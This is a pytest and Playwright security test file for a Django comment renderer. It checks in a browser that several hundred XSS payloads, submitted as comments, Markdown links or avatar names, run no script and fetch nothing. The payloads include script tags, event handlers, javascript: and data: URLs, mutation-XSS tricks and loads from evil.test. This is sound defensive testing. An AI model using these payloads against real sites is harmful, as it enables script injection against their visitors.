"""Nothing that a visitor writes as a comment or as a name runs in a reader's browser.

The page here has no Content-Security-Policy: what is rendered must be harmless by itself.
"""

from collections.abc import Callable, Iterator

import pytest
from django.utils.html import escape
from playwright.sync_api import Browser, Page, Route

from comments.avatars import avatar
from comments.rendering import plain, render

pytestmark = pytest.mark.browser

ADDRESS = "http://comments.test/"

RAW_HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
</p></div><script>alert(1)</script>
<script/x>alert(1)</script
<script	src=data:,alert(1)></script>
<script type=module>import("//evil.test/x.js")</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="x` `<script>alert(1)</script>"` `>
<img srcset="x, //evil.test/y 2x" onerror=alert(1)>
<<img src=x onerror=alert(1)>>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>
<svg><desc><noscript><img title="</noscript><img src onerror=alert(1)>"></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<object data=javascript:alert(1)>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src=javascript:alert(1)>
<embed code="//evil.test/x.swf" allowscriptaccess=always>
<frameset onload=alert(1)><frame src=javascript:alert(1)>
<body onload=alert(1)>
<body background="//evil.test/x.png">
<base href="//evil.test/">
<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>x</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.test/">
<link rel=stylesheet href=//evil.test/x.css>
<link rel=prefetch href=//evil.test/x>
<style>@import "//evil.test/x.css";*{background:url(//evil.test/y)}</style>
<style></style><img src=x onerror=alert(1)></style>
<div style="background:url(//evil.test/x)">x</div>
<div style="width:expression(alert(1))">x</div>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<table background=javascript:alert(1)><tr><td>x
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="java&#10;script&colon;alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a onmouseover=alert(1)>x</a>
<a target=_blank href=//evil.test/ onclick=alert(1)>x</a>
<p onpointerenter=alert(1) tabindex=0 onfocus=alert(1)>x</p>
<pre tabindex=1 onfocus=alert(1) autofocus>x</pre>
<code class="x" onmouseover=alert(1)>x</code>
<ol start="1" onmouseover=alert(1)><li>x
<blockquote cite="javascript:alert(1)">x</blockquote>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<title></title><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<x onclick=alert(1) id=x tabindex=1 onfocus=alert(1)>x
<custom-element onmouseover=alert(1)>x</custom-element>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<portal src=//evil.test/ onload=alert(1)>
<form id=document><input name=body><img name=cookie>
<a id=defaultView><a id=defaultView name=alert href=//evil.test/>
<img name=getElementById><img name=querySelector>
<form name=location><input name=href value=//evil.test/></form>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;script&amp;gt;alert(1)
＜script＞alert(1)＜/script＞
¼script¾alert(1)¼/script¾
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
{{constructor.constructor('alert(1)')()}}
${alert(1)} #{alert(1)} {% load x %} {{ request }}
'''.strip().splitlines()

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java%0ascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "//javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "javascript:https://example.com/",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "blob:http://comments.test/1",
    "filesystem:http://comments.test/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "file:///etc/passwd",
    "about:blank",
    "mailto:a@example.com?body=<script>",
    "tel:1",
    "/admin/",
    "//evil.test/",
    "?javascript:alert(1)",
    "http:javascript:alert(1)",
    "http://javascript:alert(1)",
    "http://[::1",
    "https://",
    "https:\\\\evil.test",
    'https://evil.test/"onmouseover="alert(1)',
    "https://evil.test/'onmouseover='alert(1)",
    "https://evil.test/&quot;onmouseover=&quot;alert(1)",
    "https://evil.test/`onmouseover=alert(1)",
    "https://evil.test/?<script>alert(1)</script>",
    "https://evil.test/%22%3E%3Cscript%3Ealert(1)",
    "https://evil.test/\u2028onmouseover=alert(1)",
    "https://evil.test/\x0conmouseover=alert(1)",
]
SHAPES = ["[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "{0}", '[x]({0} "y")', "[x]: {0}\n\n[x]"]

MARKDOWN = [
    "[x](https://a.test/ \"y' onmouseover='alert(1)\")",
    '[x](https://a.test/ "y\\" onmouseover=\\"alert(1)")',
    "[x](https://a.test/ 'y\" onmouseover=\"alert(1)')",
    '[x](https://a.test/ "\n><script>alert(1)</script>")',
    '[x](https://a.test/ (y"><img src=x onerror=alert(1)>))',
    '[x](<https://a.test/" onmouseover="alert(1)>)',
    '[x](https://a.test/" onmouseover=alert(1) x=")',
    "[<img src=x onerror=alert(1)>](https://a.test/)",
    '[![x](x"onerror="alert(1))](https://a.test/)',
    "[[x](javascript:alert(1))](https://a.test/)",
    "[x](https://a.test/)(javascript:alert(1))",
    "[a](javascript:alert(1)//https://a.test/)",
    "[x]\n(javascript:alert(1))",
    "[x](\njavascript:alert(1)\n)",
    "[x](javascript:alert(1)",
    "[" * 50 + "x" + "](javascript:alert(1))" * 50,
    '!["onerror="alert(1)](https://a.test/x.png)',
    '![x](https://a.test/x.png "onerror=alert(1)")',
    '<https://a.test/"onmouseover=alert(1)>',
    "<https://a.test/><script>alert(1)</script>",
    'https://a.test/"onmouseover="alert(1)',
    "https://a.test/'><img src=x onerror=alert(1)>",
    "https://a.test/<script>alert(1)</script>",
    'https://a.test/*"onmouseover=alert(1)*',
    "https://a.test@evil.test/javascript:alert(1)",
    "**<img src=x onerror=alert(1)>**",
    "*[x*](javascript:alert(1))*",
    "`<img src=x onerror=alert(1)>`",
    "`</code><script>alert(1)</script>`",
    '``` " onmouseover=alert(1)\nx\n```',
    '```js"><script>alert(1)</script>\nx\n```',
    "```x onfocus=alert(1) autofocus\nx\n```",
    "```{.x onmouseover=alert(1)}\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '~~~ x"onmouseover=alert(1)\nx\n~~~',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    '> x" onmouseover="alert(1)\n> </blockquote><svg onload=alert(1)>',
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "1. <svg/onload=alert(1)>\n2. x {onmouseover=alert(1)}",
    '9" onmouseover=alert(1). a\n10. b',
    "# x {#id onmouseover=alert(1)}",
    "x {: onmouseover=alert(1) style=color:red }",
    "| <img src=x onerror=alert(1)> |\n| - |\n| x |",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <svg onload=alert(1)>",
    "<div markdown=1 onmouseover=alert(1)>\n**x**\n</div>",
    "<!-- \n--><script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "<scr\0ipt>alert(1)</script>",
    "<\x00img src=x onerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img\u3000src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<script>\n\nalert(1)\n\n</script>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "x\u2028<svg onload=alert(1)>",
]
LINKS = [shape.format(scheme) for shape in SHAPES for scheme in SCHEMES]
PAYLOADS = [*RAW_HTML, *LINKS, *MARKDOWN]

HOOKS = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  const hook = () => { window.ran.push(name); return null };
  Object.defineProperty(window, name, { value: hook, writable: false, configurable: false });
}
"""
# What there may be, element by element; everything is touched as a reader would, so that handlers would run.
FINDINGS = """() => {
  const comment = {
    A: ["href", "rel", "title"], BLOCKQUOTE: [], BR: [], CODE: [], EM: [], LI: [], OL: ["start"], P: [],
    PRE: ["tabindex"], STRONG: [], UL: [],
  };
  const avatar = {
    svg: ["class", "viewBox", "width", "height", "aria-hidden", "focusable"], path: ["fill", "d", "transform"],
    text: ["fill", "x", "y", "dy", "font-size", "text-anchor"],
  };
  const found = [];
  const look = (place, allowed) => {
    for (const element of document.querySelectorAll(`${place} *`)) {
      for (const type of ["mouseover", "pointerenter", "focus", "click", "load", "error", "toggle"])
        element.dispatchEvent(new Event(type, { cancelable: true }));
      if (!Object.hasOwn(allowed, element.nodeName)) found.push(element.outerHTML);
      else for (const { name } of element.attributes)
        if (!allowed[element.nodeName].includes(name)) found.push(`${name}: ${element.outerHTML}`);
      if (element.nodeName === "A" && !["http:", "https:"].includes(element.protocol)) found.push(element.outerHTML);
      if (element.nodeName === "A" && element.rel !== "nofollow ugc noopener") found.push(element.outerHTML);
      if (element.nodeName === "PRE" && element.tabIndex !== 0) found.push(element.outerHTML);
    }
  };
  look("article", comment);
  look("header", avatar);
  const strangers = [...document.body.querySelectorAll(":scope *")].filter(e => !e.closest("article, header"));
  return [...found, ...strangers.map(e => e.outerHTML), ...window.ran];
}"""


@pytest.fixture
def judge(browser: Browser) -> Iterator[Callable[[str], list[str]]]:
    """Opens a page with this body, and says all that should not be there or happen."""
    context = browser.new_context()
    context.add_init_script(HOOKS)

    def open_one(body: str) -> list[str]:
        happened: list[str] = []
        pages = iter([f'<!doctype html><meta charset="utf-8"><title>Comments</title><body>{body}</body>'])

        def answer(route: Route) -> None:
            if route.request.url == ADDRESS and (html := next(pages, "")):
                route.fulfill(content_type="text/html; charset=utf-8", body=html)
            else:
                happened.append(f"request: {route.request.url}")
                route.abort()

        page: Page = context.new_page()
        page.route("**/*", answer)
        page.on("dialog", lambda dialog: (happened.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: happened.append(f"window: {popup.url}"))
        page.on("pageerror", lambda error: happened.append(f"error: {error}"))
        page.goto(ADDRESS)
        page.evaluate("() => new Promise(done => setTimeout(done, 300))")
        happened += page.evaluate(FINDINGS)
        if page.url != ADDRESS:
            happened.append(f"navigation: {page.url}")
        page.close()
        return happened

    yield open_one
    context.close()


def test_no_comment_runs_or_shows_what_it_may_not(judge: Callable[[str], list[str]]) -> None:
    assert len(set(PAYLOADS)) > 400
    assert judge("".join(f"<article>{render(payload)}</article>" for payload in PAYLOADS)) == []


def test_payloads_run_together_do_nothing(judge: Callable[[str], list[str]]) -> None:
    """One payload may open what the next one uses."""
    together = [render(between.join(PAYLOADS)) for between in ("\n", "\n\n", " ", "")]
    assert judge("".join(f"<article>{html}</article>" for html in together)) == []


def test_no_payload_gains_by_being_cut(judge: Callable[[str], list[str]]) -> None:
    cut = [payload[: len(payload) * part // 4] for payload in PAYLOADS for part in (1, 2, 3)]
    assert judge("".join(f"<article>{render(payload)}</article>" for payload in cut)) == []


def test_no_name_does_anything_in_an_avatar(judge: Callable[[str], list[str]]) -> None:
    names = [*PAYLOADS, *"<>\"'&`=/\\\0\x1b\u2028\u202e", "", "]]>", "--><svg>"]
    assert judge("".join(f"<header>{avatar(name, seed=name)}</header>" for name in names)) == []


def test_words_without_markup_are_shown_as_text_by_templates(judge: Callable[[str], list[str]]) -> None:
    assert judge("".join(f"<article>{escape(plain(payload))}</article>" for payload in PAYLOADS)) == []


@pytest.mark.parametrize(
    "body",
    [
        "<article><img src=x onerror=alert(1)></article>",
        '<article><a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a></article>',
        '<article><p onmouseover="alert(1)">x</p></article>',
        "<header><svg onload=alert(1)></svg></header>",
        "<p>x</p>",
    ],
)
def test_the_judge_sees_what_is_wrong(judge: Callable[[str], list[str]], body: str) -> None:
    assert judge(body) != []
